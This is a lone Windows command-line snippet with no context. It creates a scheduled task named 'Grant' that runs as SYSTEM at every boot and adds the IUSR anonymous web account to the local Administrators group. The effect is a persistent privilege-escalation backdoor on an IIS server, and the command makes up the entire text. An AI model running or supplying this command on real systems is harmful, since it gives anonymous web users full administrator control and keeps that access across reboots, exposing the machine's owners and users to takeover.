schtasks /create /tn Grant /ru SYSTEM /sc onstart /tr "net localgroup Administrators IUSR /add"
